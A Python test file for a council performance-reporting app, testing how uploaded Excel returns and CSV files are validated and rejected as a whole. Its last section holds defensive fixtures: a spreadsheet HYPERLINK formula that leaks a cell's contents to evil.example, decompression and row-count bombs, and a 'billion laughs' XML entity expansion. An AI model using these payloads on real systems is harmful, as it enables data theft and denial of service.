"""Importing figures from a file: all of it, or none of it, with every problem named by row.

Each rejected file is checked for its exact message and for a database left exactly as it
was. Files go in through `start_import`, as the upload pages send them; the tasks run at once.
"""

from decimal import Decimal
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl.utils import get_column_letter

from indicators.definitions import retire_indicator
from indicators.models import (
    CycleState,
    Frequency,
    Lifecycle,
    Period,
    RevisionAction,
    Value,
    ValueRevision,
    ValueState,
)
from indicators.tests.factories import IndicatorFactory, ReportingCycleFactory
from indicators.workflow import record_value, submit_value
from organisation.models import Role
from organisation.tests.factories import DirectorateFactory, OrgUnitFactory, UserFactory
from returns import imports, validation
from returns.imports import (
    CSV_COLUMNS,
    MAX_ROWS,
    ImportRejected,
    apply_import,
    check_rows,
    imported_returns,
    read_return_workbook,
    read_values_csv,
    save_plan,
    start_import,
)
from returns.models import ImportKind, ImportState
from returns.tests.import_files import (
    OLD_XLS,
    PDF,
    RETURN_PART,
    database_state,
    filled,
    foreign_workbook,
    huge_workbook,
    rewritten,
    values_csv,
    with_part,
    with_rows_far_down,
    with_shared_string,
    with_wide_header,
    zip_of_text,
)
from returns.workbooks import HEADERS, return_workbook

pytestmark = pytest.mark.django_db

WASTE_FILE = "return-Q2-2026-27-waste-and-recycling.xlsx"


@pytest.fixture
def template(council, today, cycle, waste, recycling, missed_bins):
    """The Waste return as downloaded: row 2 is WST-01 (%, with numerator and denominator),
    row 3 WST-02 (a number, without)."""
    return return_workbook(cycle, waste, today=today, council=council)


@pytest.fixture
def performance_team(council):
    return UserFactory(username="perf", first_name="Priya", roles=[Role.PERFORMANCE_TEAM])


@pytest.fixture
def green_flags(parks):
    return IndicatorFactory(code="PRK-01", title="Parks with a Green Flag", owner=parks)


@pytest.fixture
def park_visits(parks):
    """A monthly count, collected in the open September 2026 cycle."""
    ReportingCycleFactory(
        period=Period.objects.get(kind="month", code="2026-09"), state=CycleState.OPEN
    )
    return IndicatorFactory(
        code="PRK-02",
        title="Park visits",
        owner=parks,
        unit="number",
        precision=0,
        frequency=Frequency.MONTHLY,
    )


def upload_workbook(content, *, by, cycle, service, name=WASTE_FILE):
    run = start_import(
        kind=ImportKind.RETURN_WORKBOOK,
        upload=SimpleUploadedFile(name, content),
        by=by,
        cycle=cycle,
        service=service,
    )
    run.refresh_from_db()
    return run


def upload_csv(content, *, by, name="figures.csv"):
    run = start_import(kind=ImportKind.CSV, upload=SimpleUploadedFile(name, content), by=by)
    run.refresh_from_db()
    return run


def messages(run) -> list[str]:
    return [p["message"] for p in run.problems]


def rejected(run) -> list[str]:
    """The messages of a rejected run, checking it was rejected whole."""
    assert run.state == ImportState.FAILED
    assert run.imported_rows == 0
    assert run.finished_at is not None
    return messages(run)


# A filled-in workbook


def test_a_filled_in_workbook_is_saved_as_drafts_with_the_file_named_in_the_history(
    template, officer, cycle, waste, recycling, missed_bins
):
    content = filled(
        template,
        {
            2: {
                "Figure": 48.5,
                "Numerator": 97,
                "Denominator": 200,
                "Data quality": "Provisional",
                "Commentary": "Up on last quarter",
                "Why": "Garden waste",
                "Actions": "Keep going",
            },
            3: {"Figure": 12},
        },
    )

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert run.state == ImportState.DONE, run.problems
    assert (run.imported_rows, run.total_rows, run.processed_rows) == (2, 2, 2)
    assert run.problems == []
    recycled = Value.objects.get(indicator=recycling, period=cycle.period)
    assert recycled.state == ValueState.DRAFT
    assert (recycled.figure, recycled.numerator, recycled.denominator) == (
        Decimal("48.5"),
        Decimal("97"),
        Decimal("200"),
    )
    assert recycled.data_quality == "provisional"
    assert (recycled.commentary, recycled.reasons, recycled.actions) == (
        "Up on last quarter",
        "Garden waste",
        "Keep going",
    )
    assert Value.objects.get(indicator=missed_bins, period=cycle.period).figure == 12
    revision = recycled.revisions.get()
    assert revision.action == RevisionAction.IMPORTED
    assert revision.reason == f"Imported from {WASTE_FILE}"
    assert revision.changed_by == officer
    assert imported_returns(run) == [(cycle, waste)]


def test_an_edited_draft_is_updated_and_empty_rows_are_left_as_they_are(
    template, officer, cycle, waste, recycling, missed_bins
):
    draft = record_value(
        indicator=missed_bins, period=cycle.period, entries={"figure": Decimal("9")}, by=officer
    )
    template = return_workbook(cycle, waste, today=cycle.opens_on, council=waste.council)
    content = filled(template, {3: {"Figure": 11, "Commentary": "A wet week"}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert run.state == ImportState.DONE, run.problems
    assert run.imported_rows == 1
    draft.refresh_from_db()
    assert (draft.figure, draft.commentary, draft.lock_version) == (11, "A wet week", 2)
    assert draft.revisions.last().action == RevisionAction.IMPORTED
    assert not Value.objects.filter(indicator=recycling).filter(period=cycle.period).exists()


def test_uploading_the_unchanged_workbook_changes_nothing(template, officer, cycle, waste):
    before = database_state()

    run = upload_workbook(template, by=officer, cycle=cycle, service=waste)

    assert run.state == ImportState.DONE
    assert run.imported_rows == 0
    assert database_state() == before


def test_an_unusual_figure_is_imported_with_a_note_to_check_it(template, officer, cycle, waste):
    run = upload_workbook(
        filled(template, {2: {"Figure": 90}}), by=officer, cycle=cycle, service=waste
    )

    assert run.state == ImportState.DONE
    assert [note["message"] for note in run.notes] == [
        "Row 2, Figure: "
        + validation.UNUSUAL_FIGURE.format(
            title="Household waste recycled", figure="90.0%", low="41.3%", high="49.3%"
        )
    ]
    assert run.notes[0]["row"] == 2


# Broken workbooks: each gives its message and changes nothing


@pytest.fixture
def unchanged(template, officer, cycle, missed_bins):
    """A draft already saved, so 'nothing changed' covers an existing figure too."""
    record_value(
        indicator=missed_bins, period=cycle.period, entries={"figure": Decimal("9")}, by=officer
    )
    before = database_state()
    yield
    assert database_state() == before


def test_wrong_columns_are_named_with_the_expected_ones(unchanged, template, officer, cycle, waste):
    content = filled(template, {2: {"Figure": 45}}, headers={"Figure": "Value", "Why": ""})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        f"“{WASTE_FILE}” does not have the expected columns. Missing: Figure, Why. "
        f"Not expected: Value. The columns must be: {', '.join(HEADERS)}"
    ]


def test_bad_numbers_are_listed_row_by_row(unchanged, template, officer, cycle, waste):
    content = filled(
        template,
        {2: {"Figure": "12,5a", "Numerator": "lots", "Denominator": 200}, 3: {"Figure": "7 bins"}},
    )

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 2, Figure: “12,5a” is not a number. Enter a number like 92.5",
        "Row 2, Numerator: “lots” is not a number. Enter a number like 1250",
        "Row 3, Figure: “7 bins” is not a number. Enter a number like 92.5",
    ]
    assert [(p["row"], p["field"]) for p in run.problems] == [
        (2, "Figure"),
        (2, "Numerator"),
        (3, "Figure"),
    ]


def test_a_changed_or_missing_code_is_rejected(unchanged, template, officer, cycle, waste):
    content = filled(
        template, {2: {"Code": "WST-99", "Figure": 45}, 3: {"Code": None, "Figure": 10}}
    )

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 2, Code: “WST-99” is not in Waste and Recycling's return for Q2 2026/27. Do not "
        "change the Code column: download the return again for a fresh copy",
        "Row 3, Code: the indicator code is missing. Do not change the Code column: download "
        "the return again for a fresh copy",
    ]


def test_an_indicator_of_another_service_is_not_in_this_return(
    unchanged, template, officer, cycle, waste, green_flags
):
    content = filled(template, {2: {"Code": "PRK-01", "Figure": 45}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 2, Code: “PRK-01” is not in Waste and Recycling's return for Q2 2026/27. Do not "
        "change the Code column: download the return again for a fresh copy"
    ]


def test_duplicate_rows_name_both_rows(unchanged, template, officer, cycle, waste):
    content = filled(template, {2: {"Figure": 45}, 3: {"Code": "WST-01", "Figure": 46}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 3 repeats row 2: both are for WST-01 in Q2 2026/27. Keep one of them"
    ]


def test_a_duplicate_of_a_row_with_a_problem_is_still_named(
    unchanged, template, officer, cycle, waste
):
    content = filled(template, {2: {"Figure": "4x"}, 3: {"Code": "WST-01", "Figure": 46}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 2, Figure: “4x” is not a number. Enter a number like 92.5",
        "Row 3 repeats row 2: both are for WST-01 in Q2 2026/27. Keep one of them",
    ]


def test_figures_are_judged_as_on_the_return_page(unchanged, template, officer, cycle, waste):
    title = "Household waste recycled"
    over = filled(template, {2: {"Figure": 120}})
    parts = filled(template, {2: {"Figure": 45, "Numerator": 250, "Denominator": 200}})
    mismatch = filled(template, {2: {"Figure": 45, "Numerator": 50, "Denominator": 200}})
    no_parts = filled(template, {3: {"Figure": 4, "Numerator": 1}})

    assert rejected(upload_workbook(over, by=officer, cycle=cycle, service=waste)) == [
        "Row 2, Figure: " + validation.PERCENT_RANGE.format(title=title)
    ]
    assert rejected(upload_workbook(parts, by=officer, cycle=cycle, service=waste)) == [
        "Row 2, Numerator: "
        + validation.NUMERATOR_OVER_DENOMINATOR.format(
            title=title, numerator="250", denominator="200"
        )
    ]
    assert rejected(upload_workbook(mismatch, by=officer, cycle=cycle, service=waste)) == [
        "Row 2, Figure: "
        + validation.FIGURE_MISMATCH.format(title=title, figure="45.0%", expected="25.0%")
    ]
    assert rejected(upload_workbook(no_parts, by=officer, cycle=cycle, service=waste)) == [
        "Row 3, Numerator: WST-02 has no numerator or denominator. Leave Numerator empty"
    ]


def test_a_data_quality_outside_the_list_is_rejected(unchanged, template, officer, cycle, waste):
    content = filled(template, {2: {"Figure": 45, "Data quality": "Guessed"}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 2, Data quality: “Guessed” is not a data quality. Enter Final, Provisional or "
        "Estimated"
    ]


def test_a_submitted_figure_cannot_be_overwritten(
    template, officer, cycle, waste, recycling, missed_bins
):
    bins = record_value(
        indicator=missed_bins, period=cycle.period, entries={"figure": Decimal("9")}, by=officer
    )
    submit_value(value=bins, by=officer)
    before = database_state()
    content = filled(template, {2: {"Figure": 45}, 3: {"Figure": 15}})

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        "Row 3, Figure: Missed bins per 100,000 collections: this figure is submitted, so it "
        "cannot be changed here. Ask the approver to return it if it is wrong"
    ]
    assert database_state() == before


def test_too_many_rows_are_refused_before_any_is_checked(unchanged, officer, cycle, waste):
    content = huge_workbook(cycle=cycle, service=waste, rows=MAX_ROWS + 1)

    run = upload_workbook(content, by=officer, cycle=cycle, service=waste)

    assert rejected(run) == [
        f"“{WASTE_FILE}” has more than 10,000 rows of figures; the limit is 10,000. Split it "
        "into smaller files"
    ]
    assert run.processed_rows == 0


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(unchanged, cycle, waste):
    too_big = BytesIO(b"PK\x03\x04" + b"\x00" * (6 * 1024 * 1024 - 4))

    with pytest.raises(ImportRejected) as error:
        read_return_workbook(too_big, cycle=cycle, service=waste, name="big.xlsx")

    assert messages(error.value) == [
        "“big.xlsx” is 6 MB; the limit is 5 MB. Split it into smaller files"
    ]


def messages_of_rejected(content, name, *, officer, cycle, waste):
    return rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste, name=name))


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (
            PDF,
            "report.xlsx",
            "“report.xlsx” is not an Excel workbook. Upload the spreadsheet downloaded from "
            "this return, saved as an Excel Workbook (.xlsx)",
        ),
        (
            b"Code,Figure\nWST-01,45\n",
            "figures.xlsx",
            "“figures.xlsx” is not an Excel workbook. Upload the spreadsheet downloaded from "
            "this return, saved as an Excel Workbook (.xlsx)",
        ),
        (
            zip_of_text(),
            "archive.xlsx",
            "“archive.xlsx” is not an Excel workbook. Upload the spreadsheet downloaded from "
            "this return, saved as an Excel Workbook (.xlsx)",
        ),
        (
            OLD_XLS,
            "return.xls",
            "“return.xls” is an Excel 97-2003 workbook (.xls). Open it in Excel, save it as an "
            "Excel Workbook (.xlsx) and upload that",
        ),
        (
            foreign_workbook(),
            "my-figures.xlsx",
            "“my-figures.xlsx” is not a return spreadsheet from Golden Thread. Download this "
            "return's spreadsheet from its page, enter the figures in it and upload that",
        ),
        (b"", "empty.xlsx", "“empty.xlsx” is empty. Choose the file with the figures in it"),
    ],
    ids=["pdf", "text", "zip", "xls", "foreign-workbook", "empty"],
)
def test_a_file_that_is_not_a_return_workbook_is_named_and_refused(
    unchanged, officer, cycle, waste, content, name, message
):
    assert messages_of_rejected(content, name, officer=officer, cycle=cycle, waste=waste) == [
        message
    ]


def test_a_workbook_for_another_service_or_cycle_is_refused(
    council, today, unchanged, officer, cycle, waste, parks, green_flags
):
    officer.scope.add(parks)
    q1 = ReportingCycleFactory(period=Period.objects.get(code="2026-27-Q1"), state=CycleState.OPEN)
    parks_file = return_workbook(cycle, parks, today=today, council=council)
    q1_file = return_workbook(q1, waste, today=today, council=council)

    assert messages_of_rejected(
        filled(parks_file, {2: {"Figure": 80}}), "parks.xlsx", officer=officer, cycle=cycle,
        waste=waste,
    ) == [
        "“parks.xlsx” is the return for Parks, Q2 2026/27, not for Waste and Recycling, "
        "Q2 2026/27. Upload it on its own return's page, or download this return's "
        "spreadsheet and use that"
    ]  # fmt: skip
    assert messages_of_rejected(
        filled(q1_file, {2: {"Figure": 44}}), "q1.xlsx", officer=officer, cycle=cycle,
        waste=waste,
    ) == [
        "“q1.xlsx” is Waste and Recycling's return for Q1 2026/27, not for Q2 2026/27. "
        "Upload it on the Q1 2026/27 return's page, or download this return's spreadsheet "
        "and use that"
    ]  # fmt: skip


def test_a_workbook_of_a_service_with_the_same_name_names_both_services_apart(
    council, today, unchanged, officer, cycle, waste
):
    """The file's service and the page's service are named so they can be told apart, and
    by their names in Golden Thread, not by what the file says of itself."""
    people = DirectorateFactory(council=council, name="People")
    other = OrgUnitFactory(council=council, parent=people, name="Waste and Recycling",
                           code="people-waste")  # fmt: skip
    IndicatorFactory(code="PPL-01", owner=other)
    officer.scope.add(other)
    other_file = return_workbook(cycle, other, today=today, council=council)
    claims = filled(other_file, {}, about={"service_name": "Parks", "period_label": "Q9"})

    assert messages_of_rejected(
        claims, "theirs.xlsx", officer=officer, cycle=cycle, waste=waste
    ) == [
        "“theirs.xlsx” is the return for Waste and Recycling (People), Q2 2026/27, not for "
        "Waste and Recycling (Place), Q2 2026/27. Upload it on its own return's page, or "
        "download this return's spreadsheet and use that"
    ]


def test_a_closed_cycle_takes_no_figures(unchanged, template, officer, cycle, waste):
    cycle.state = CycleState.CLOSED
    cycle.save()

    run = upload_workbook(
        filled(template, {2: {"Figure": 45}}), by=officer, cycle=cycle, service=waste
    )

    assert rejected(run) == ["Returns for Q2 2026/27 are not open: the reporting cycle is closed"]


# The performance team's CSV of many services' figures


@pytest.fixture
def many_services(cycle, recycling, missed_bins, green_flags, park_visits):
    return [
        {
            "indicator_code": "WST-01",
            "period": "2026-27-Q2",
            "figure": "46.5",
            "numerator": "93",
            "denominator": "200",
            "data_quality": "Final",
            "commentary": "Steady",
        },
        {"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "11"},
        {
            "indicator_code": "PRK-01",
            "period": "2026-27-Q2",
            "figure": "75",
            "data_quality": "estimated",
        },
        {
            "indicator_code": "PRK-02",
            "period": "2026-09",
            "not_available_reason": "Counter broken",
            "commentary": "No count this month",
        },
    ]


def test_a_csv_covering_several_services_and_cycles_is_imported_whole(
    performance_team, cycle, waste, parks, many_services
):
    run = upload_csv(values_csv(many_services, bom=True), by=performance_team)

    assert run.state == ImportState.DONE, run.problems
    assert run.imported_rows == 4
    saved = {
        v.indicator.code: v
        for v in Value.objects.select_related("indicator", "period").order_by("indicator__code")
        if v.period.code in ("2026-27-Q2", "2026-09")
    }
    assert saved["WST-01"].figure == Decimal("46.5")
    assert saved["WST-01"].denominator == 200
    assert saved["PRK-01"].data_quality == "estimated"
    assert saved["PRK-02"].figure is None
    assert saved["PRK-02"].not_available_reason == "Counter broken"
    assert {v.state for v in saved.values()} == {ValueState.DRAFT}
    assert {r.reason for r in ValueRevision.objects.filter(value__in=saved.values())} == {
        "Imported from figures.csv"
    }
    september = Period.objects.get(kind="month", code="2026-09").cycle
    assert imported_returns(run) == [(cycle, parks), (cycle, waste), (september, parks)]


def test_one_bad_row_in_the_middle_rejects_the_whole_csv(
    performance_team, many_services, recycling
):
    before = database_state()
    many_services[2]["figure"] = "seventy"

    run = upload_csv(values_csv(many_services), by=performance_team)

    assert rejected(run) == ["Row 4, figure: “seventy” is not a number. Enter a number like 92.5"]
    assert database_state() == before


def test_every_kind_of_bad_row_in_a_csv_is_named(
    performance_team, cycle, recycling, missed_bins, green_flags, park_visits, parks
):
    ReportingCycleFactory(period=Period.objects.get(code="2026-27-Q3"))  # planned, not open
    IndicatorFactory(code="PRK-09", title="Old parks measure", owner=parks,
                     lifecycle=Lifecycle.RETIRED)  # fmt: skip
    before = database_state()
    rows = [
        {"indicator_code": "XYZ-01", "period": "2026-27-Q2", "figure": "1"},
        {"indicator_code": "WST-02", "period": "2026 Q2", "figure": "1"},
        {"indicator_code": "WST-02", "period": "2026-10", "figure": "1"},
        {"indicator_code": "WST-02", "period": "2026-27-Q3", "figure": "1"},
        {"indicator_code": "WST-02", "period": "2026-27-Q4", "figure": "1"},
        {"indicator_code": "PRK-09", "period": "2026-27-Q2", "figure": "1"},
        {"indicator_code": "", "period": "2026-27-Q2", "figure": "1"},
        {"indicator_code": "WST-02", "period": "", "figure": "1"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "80"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "81"},
        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "101"},
        {"indicator_code": "", "period": "", "figure": ""},  # a blank line: skipped
        {"indicator_code": "PRK-02", "period": "2026-09", "figure": "1", "data_quality": "ok"},
    ]

    run = upload_csv(values_csv(rows), by=performance_team)

    assert rejected(run) == [
        "Row 2, indicator_code: there is no indicator with the code “XYZ-01”. Check the code",
        "Row 3, period: “2026 Q2” is not a period code. Use a code like 2026-27-Q2 "
        "(a quarter), 2026-10 (a month) or 2026-27 (a financial year)",
        "Row 4, period: WST-02 is collected quarterly, so the period must be a quarter code "
        "like 2026-27-Q2, not “2026-10”",
        "Row 5, period: figures for Q3 2026/27 cannot be imported: its reporting cycle is "
        "planned. Open it first, or remove the row",
        "Row 6, period: figures for Q4 2026/27 cannot be imported: it has no reporting "
        "cycle. Set one up and open it, or remove the row",
        "Row 7, indicator_code: PRK-09 is not collected in Q2 2026/27: it is retired. "
        "Remove the row",
        "Row 8, indicator_code: the indicator code is missing. Enter the indicator's code, "
        "like WST-01",
        "Row 9, period: the period is missing. Enter a period code like 2026-27-Q2",
        "Row 11 repeats row 10: both are for PRK-01 in Q2 2026/27. Keep one of them",
        "Row 12, figure: " + validation.PERCENT_RANGE.format(title="Household waste recycled"),
        "Row 14, data_quality: “ok” is not a data quality. Enter Final, Provisional or Estimated",
    ]
    assert database_state() == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            values_csv([], columns=("indicator_code", "period", "value", "figure")),
            "“figures.csv” does not have the expected columns. Missing: numerator, "
            "denominator, data_quality, commentary, reasons, actions, not_available_reason. "
            "Not expected: value. The columns must be: " + ", ".join(imports.CSV_COLUMNS),
        ),
        (
            ";".join(imports.CSV_COLUMNS).encode() + b"\nWST-01;2026-27-Q2;45\n",
            "“figures.csv” does not have the expected columns. It seems to use semicolons "
            "between columns: save it from Excel as “CSV UTF-8 (Comma delimited) (*.csv)” and "
            "upload that. Missing: "
            + ", ".join(imports.CSV_COLUMNS)
            + ". Not expected: "
            + ";".join(imports.CSV_COLUMNS)[:39]
            + "…. The columns must be: "
            + ", ".join(imports.CSV_COLUMNS),
        ),
        (
            values_csv([]),
            "“figures.csv” has no rows of figures below the header row",
        ),
        (b"\n\n", "“figures.csv” is empty. Choose the file with the figures in it"),
        (
            "indicator_code,period,figure\nWST-01,2026-27-Q2,45 – estimé\n".encode(
                "latin-1", "replace"
            ).replace(b"?", b"\xe9"),
            "“figures.csv” is not UTF-8 text: save it from Excel as “CSV UTF-8 (Comma "
            "delimited) (*.csv)” and upload that",
        ),
        (
            foreign_workbook(),
            "“figures.csv” is an Excel workbook, not a CSV file: save it from Excel as “CSV "
            "UTF-8 (Comma delimited) (*.csv)” and upload that",
        ),
        (
            PDF,
            "“figures.csv” is not a CSV file: save it from Excel as “CSV UTF-8 (Comma "
            "delimited) (*.csv)” and upload that",
        ),
    ],
    ids=["wrong-columns", "semicolons", "header-only", "blank", "latin-1", "xlsx", "pdf"],
)
def test_a_csv_that_cannot_be_read_is_named_and_refused(
    performance_team, recycling, content, message
):
    before = database_state()

    run = upload_csv(content, by=performance_team)

    assert rejected(run) == [message]
    assert database_state() == before


def test_a_row_with_more_cells_than_columns_is_named(performance_team, recycling):
    content = values_csv([]) + b"WST-01,2026-27-Q2,45,,,,,,,,Oops\n"

    run = upload_csv(content, by=performance_team)

    assert rejected(run) == [
        "Row 2 has 11 cells but the header has 10 columns. Remove the extra cells, or put "
        "text that contains commas in double quotes"
    ]


def test_a_huge_csv_is_refused_where_reading_stops(performance_team, recycling):
    before = database_state()
    row = b"WST-01,2026-27-Q2,45,,,,,,,\n"
    content = values_csv([]) + row * 12_000

    run = upload_csv(content, by=performance_team)

    assert rejected(run) == [
        "“figures.csv” has more than 10,000 rows of figures; the limit is 10,000. Split it into "
        "smaller files"
    ]
    assert database_state() == before


def test_a_csv_over_the_size_limit_is_refused_before_it_is_read(recycling):
    content = values_csv([]) + b"WST-01,2026-27-Q2,45,,,,,,," + b" " * (5 * 1024 * 1024)

    with pytest.raises(ImportRejected) as error:
        read_values_csv(BytesIO(content), name="all.csv")

    assert messages(error.value) == [
        "“all.csv” is 5.1 MB; the limit is 5 MB. Split it into smaller files"
    ]


def test_progress_is_recorded_as_rows_are_checked(performance_team, recycling):
    rows = [
        {"indicator_code": f"NOPE-{n}", "period": "2026-27-Q2", "figure": "1"} for n in range(450)
    ]

    run = upload_csv(values_csv(rows), by=performance_team)

    assert len(rejected(run)) == 450
    assert (run.total_rows, run.processed_rows) == (450, 450)


def test_progress_is_reported_every_few_hundred_rows(performance_team, recycling):
    rows = [
        {"indicator_code": f"NOPE-{n}", "period": "2026-27-Q2", "figure": "1"} for n in range(450)
    ]
    parsed = read_values_csv(BytesIO(values_csv(rows)), name="many.csv")
    reported = []

    with pytest.raises(ImportRejected):
        check_rows(parsed, by=performance_team, progress=reported.append)

    assert reported == [200, 400, 450]


def test_an_officer_cannot_import_figures_of_services_outside_their_scope(
    officer, cycle, recycling, green_flags
):
    rows = [
        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "45"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "80"},
    ]

    run = upload_csv(values_csv(rows), by=officer)

    assert rejected(run) == [
        "Row 3, indicator_code: you do not enter figures for PRK-01. Remove the row"
    ]


def test_a_figure_changed_while_the_file_is_checked_rolls_back_every_return(
    performance_team, officer, cycle, recycling, green_flags
):
    rows = [
        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "45"},
        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "80"},
    ]
    parsed = read_values_csv(BytesIO(values_csv(rows)), name="q2.csv")
    plan = check_rows(parsed, by=performance_team)
    # Meanwhile someone saves a Parks figure; Waste's return is saved first, then refused.
    record_value(
        indicator=green_flags, period=cycle.period, entries={"figure": Decimal("70")}, by=officer
    )
    before = database_state()

    with pytest.raises(ImportRejected) as error:
        save_plan(plan, parsed, by=performance_team, reason="Imported from q2.csv")

    assert messages(error.value) == [
        "Row 3, indicator_code: someone else changed PRK-01 while the file was being "
        "imported, so nothing was imported. Upload the file again to check it against their "
        "figure"
    ]
    assert database_state() == before
    assert not Value.objects.filter(indicator=recycling, period=cycle.period).exists()


def test_a_finished_run_is_not_applied_again(template, officer, cycle, waste):
    run = upload_workbook(
        filled(template, {3: {"Figure": 5}}), by=officer, cycle=cycle, service=waste
    )
    revisions = ValueRevision.objects.count()

    again = apply_import(run)

    assert again.state == ImportState.DONE
    assert ValueRevision.objects.count() == revisions


def test_a_row_outside_an_indicators_reporting_range_is_refused_naming_the_range(
    performance_team, cycle, parks
):
    retired = IndicatorFactory(code="PRK-08", owner=parks)
    retire_indicator(
        indicator=retired, last_period=Period.objects.get(code="2026-27-Q1"), reason="Replaced"
    )
    IndicatorFactory(code="PRK-07", owner=parks, first_period=Period.objects.get(code="2026-27-Q3"))
    rows = [
        {"indicator_code": "PRK-08", "period": "2026-27-Q2", "figure": "1"},
        {"indicator_code": "PRK-07", "period": "2026-27-Q2", "figure": "1"},
    ]

    run = upload_csv(values_csv(rows), by=performance_team)

    assert rejected(run) == [
        "Row 2, indicator_code: PRK-08 is not collected in Q2 2026/27: it is retired after "
        "Q1 2026/27. Remove the row",
        "Row 3, indicator_code: PRK-07 is not collected in Q2 2026/27: it is reported from "
        "Q3 2026/27. Remove the row",
    ]


# Hostile files: bounded by what they unpack to, and by rows, columns and cell length, read
# as a stream and refused at the first limit crossed, before anything is stored.

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_a_small_workbook_holding_one_huge_string_is_refused_before_it_is_opened(
    unchanged, template, officer, cycle, waste
):
    """The probe's bomb was 207 KB holding one 200 MB string; just over the limit is enough
    to show it, and keeps the test fast."""
    bomb = with_shared_string(template, cell="L2", size=imports.MAX_UNPACKED_BYTES + 1)
    assert len(bomb) < 200 * 1024

    [message] = rejected(upload_workbook(bomb, by=officer, cycle=cycle, service=waste,
                                         name="bomb.xlsx"))  # fmt: skip

    assert message.startswith("“bomb.xlsx” unpacks to 20.1 MB; the limit is 20 MB. ")
    assert message == imports.UNPACKS_TOO_LARGE.format(
        name="bomb.xlsx", size="20.1 MB", limit="20 MB"
    )


def test_a_part_packed_far_tighter_than_any_spreadsheet_is_refused(
    unchanged, template, officer, cycle, waste
):
    packed = with_part(template, "xl/media/image1.png", 2 * imports.MEGABYTE)

    [message] = rejected(upload_workbook(packed, by=officer, cycle=cycle, service=waste,
                                         name="packed.xlsx"))  # fmt: skip

    assert message.startswith("“packed.xlsx” has a part (xl/media/image1.png) that unpacks to ")
    assert message.endswith(
        " times its packed size; the limit is 100 times. Excel never packs a spreadsheet "
        "this tightly: download the return's spreadsheet again and enter the figures in it"
    )


def test_a_sheet_declaring_a_million_rows_is_refused_where_reading_stops(
    unchanged, template, officer, cycle, waste
):
    """The probe's row bomb held the worker for 165 s; reading stops at the limit."""
    bomb = with_rows_far_down(template, last_row=1_048_576)
    assert len(bomb) < 20 * 1024

    run = upload_workbook(bomb, by=officer, cycle=cycle, service=waste, name="rows.xlsx")

    assert rejected(run) == [
        "“rows.xlsx” goes on below row 20,000, where reading stops. Delete the empty rows "
        "below the figures, or split the file into smaller files"
    ]
    assert run.processed_rows == 0


def test_a_sheet_declaring_every_column_is_read_only_as_far_as_the_returns_columns(
    template, officer, cycle, waste, missed_bins
):
    wide = with_rows_far_down(template, last_row=3_000, last_column="XFD")

    run = upload_workbook(wide, by=officer, cycle=cycle, service=waste)

    assert run.state == ImportState.DONE, run.problems
    assert Value.objects.get(indicator=missed_bins, period=cycle.period).figure == 45


def test_a_row_of_a_thousand_empty_cells_is_refused_before_it_is_read(
    unchanged, template, officer, cycle, waste
):
    """Within the size limits, a row of many small cells would cost openpyxl hundreds of
    megabytes (a 3 MB file held 780,000 cells in one row: 1.4 GB and 25 s)."""
    cells = "".join(f'<c r="{get_column_letter(n)}5"/>' for n in range(1, 1_002)).encode()
    wide = rewritten(
        template,
        {RETURN_PART: lambda xml: xml.replace(b"</sheetData>", b'<row r="5">' + cells
                                              + b"</row></sheetData>")},
    )  # fmt: skip

    assert rejected(upload_workbook(wide, by=officer, cycle=cycle, service=waste)) == [
        f"“{WASTE_FILE}” has a row (row 5 of a sheet) with more than 1,000 cells. Clear the "
        "cells to the right of the return's columns"
    ]


def test_a_workbook_of_too_many_cells_or_formats_is_refused_before_it_is_read(
    unchanged, template, officer, cycle, waste, monkeypatch
):
    formats = rewritten(
        template,
        {"xl/styles.xml": lambda xml: xml.replace(
            b"</cellXfs>", b'<xf numFmtId="0"/>' * 20_001 + b"</cellXfs>")},
    )  # fmt: skip
    monkeypatch.setattr(imports, "MAX_ELEMENTS", 100)

    assert rejected(upload_workbook(template, by=officer, cycle=cycle, service=waste)) == [
        f"“{WASTE_FILE}” holds more than 100 cells, texts and styles; a return holds far "
        "fewer. Remove what is not part of the return, or split it into smaller files"
    ]
    monkeypatch.undo()
    assert rejected(upload_workbook(formats, by=officer, cycle=cycle, service=waste)) == [
        f"“{WASTE_FILE}” has more than 20,000 cell formats; a return uses a few dozen. Copy "
        "the figures into a fresh download of the return's spreadsheet and upload that"
    ]


def test_a_workbook_defining_entities_is_refused_unexpanded(
    unchanged, template, officer, cycle, waste
):
    """The billion laughs: ten entities each ten times the one before."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'.encode() for n in range(1, 10)
    )
    laughs = rewritten(
        template,
        {RETURN_PART: lambda xml: xml.replace(
            b"<worksheet", b"<!DOCTYPE worksheet [" + entities + b"]><worksheet", 1
        ).replace(b"</sheetData>", b'<row r="9"><c r="L9" t="inlineStr"><is><t>&lol9;</t>'
                  b"</is></c></row></sheetData>")},
    )  # fmt: skip

    assert rejected(upload_workbook(laughs, by=officer, cycle=cycle, service=waste)) == [
        f"“{WASTE_FILE}” is not an Excel workbook. Upload the spreadsheet downloaded from this "
